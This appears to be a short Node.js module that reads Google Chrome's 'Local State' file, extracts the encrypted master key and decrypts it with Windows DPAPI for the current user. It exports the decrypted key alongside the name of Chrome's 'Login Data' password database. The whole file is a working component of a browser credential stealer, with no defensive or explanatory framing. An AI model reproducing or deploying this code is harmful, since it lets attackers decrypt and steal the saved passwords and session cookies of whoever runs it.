const { Dpapi } = require('@primno/dpapi');
const state = require('fs').readFileSync(process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Local State');
const key = Dpapi.unprotectData(Buffer.from(JSON.parse(state).os_crypt.encrypted_key, 'base64').slice(5), null, 'CurrentUser');
module.exports = { key, db: 'Login Data' };
